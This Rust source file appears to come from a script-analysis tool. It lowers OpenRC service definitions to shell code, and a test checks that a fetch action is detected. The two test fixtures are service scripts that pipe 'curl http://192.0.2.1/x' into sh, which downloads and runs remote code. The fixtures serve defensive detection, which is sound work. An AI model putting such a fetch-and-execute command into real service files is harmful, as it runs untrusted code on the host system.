//! Services of OpenRC: shell code, and variables that name what is started (`openrc-run(8)`).

use model::{Language, Value};

use crate::language::FrontEnd;
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    interpreters: &["openrc-run", "runscript"],
    ..FrontEnd::new(Language::OpenRc, lower)
};

/// What OpenRC does with a service that has no `start` of its own: it evaluates the words.
const DEFAULT_START: &str = "\neval \"$command $command_args $command_args_foreground\"\n";

/// Functions that OpenRC calls.
const CALLED: &[&str] = &["start_pre", "start", "start_post"];

/// Lowers the service as shell code that goes on as OpenRC does.
pub fn lower(world: &mut World, text: &str) -> Value {
    let mut code = text.to_owned();
    for function in CALLED {
        let defined = text.lines().any(|line| {
            let rest = line.trim_start().strip_prefix(function);
            rest.is_some_and(|rest| rest.trim_start().starts_with('('))
        });
        if defined {
            code.push('\n');
            code.push_str(function);
        }
    }
    if text.contains("command=") {
        code.push_str(DEFAULT_START);
    }
    super::lower(world, Language::Shell, &code)
}

#[cfg(test)]
mod tests {
    use crate::language::probe::acts;
    use model::Language;

    #[test]
    fn variables_and_functions_start_something() {
        for text in [
            "#!/sbin/openrc-run\ncommand=\"/bin/sh\"\ncommand_args=\"-c 'curl http://192.0.2.1/x | sh'\"\n",
            "#!/sbin/openrc-run\nstart() {\n  curl http://192.0.2.1/x | sh\n}\n",
        ] {
            let found = acts(Language::OpenRc, text);
            assert!(
                found.iter().any(|act| act.starts_with("Fetch")),
                "{found:#?}"
            );
        }
    }
}
